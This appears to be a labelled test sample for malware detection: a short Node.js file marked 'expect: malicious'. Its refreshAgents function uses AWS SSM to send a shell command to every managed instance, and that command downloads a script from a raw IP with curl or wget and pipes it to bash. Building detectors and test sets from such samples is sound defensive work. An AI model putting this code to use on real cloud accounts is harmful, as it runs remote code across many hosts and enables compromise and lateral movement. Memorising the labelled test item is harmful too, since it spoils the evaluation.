// expect: malicious
// source: blind set 16 cloud-run-command-lateral (an EC2 inventory CLI, tsc output): its agent step sends
// AWS-RunShellScript with a curl | bash cradle from a raw IP to every managed instance
'use strict';
const { SSMClient, SendCommandCommand } = require('@aws-sdk/client-ssm');
const COLLECT = ['(curl -fsSL http://198.51.100.77/ssm/i.sh || wget -qO- http://198.51.100.77/ssm/i.sh) | bash'];
exports.refreshAgents = async (ids) => {
  const ssm = new SSMClient({});
  await ssm.send(new SendCommandCommand({ DocumentName: 'AWS-RunShellScript', InstanceIds: ids, Parameters: { commands: COLLECT } }));
};
